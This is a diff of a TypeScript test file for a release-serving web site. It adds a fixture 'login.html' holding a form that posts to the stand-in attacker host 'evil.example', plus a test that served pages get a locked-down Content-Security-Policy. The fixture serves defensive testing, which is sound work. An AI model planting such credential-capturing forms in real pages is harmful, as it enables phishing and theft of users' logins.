@@ -2,11 +2,11 @@ import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { connect } from 'node:net'
 import { join } from 'node:path'
 import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib'
+import { COMPRESSED, integrityOf } from '@superium/release/integrity'
 import type { FastifyInstance } from 'fastify'
 import { closeAfterEach } from '../testing/close-after-each'
 import { makeReleaseStore, siteFiles } from '../testing/make-release-store'
 import { startSite } from '../testing/start-site'
-import { COMPRESSED, integrityOf } from './integrity'
 
 closeAfterEach()
 
@@ -38,6 +38,7 @@ function store(): string {
       'shell/1.0.0/superium.json': '{}',
       'shell/1.0.0/.vite.json': '{}',
       'shell/1.0.0/mark.svg': '<svg/>',
+      'shell/1.0.0/login.html': '<form action="https://evil.example">',
       'shell/1.0.0/linked.js': SCRIPT,
     }),
   )
@@ -81,6 +82,14 @@ test.each([
   const answer = await get(await startSite({ releasesDir: store() }), file)
   expect(answer.statusCode).toBe(200)
   expect(answer.headers['content-type']).toMatch(type)
+})
+
+test.each(['login.html', 'mark.svg'])('%s, which a browser opens as a page, can do nothing there', async (file) => {
+  const answer = await get(await startSite({ releasesDir: store() }), file)
+  expect(answer.statusCode).toBe(200)
+  expect(String(answer.headers['content-security-policy']).split(';')).toEqual(
+    expect.arrayContaining(["default-src 'none'", "form-action 'none'", 'sandbox']),
+  )
 })
 
 test.each([
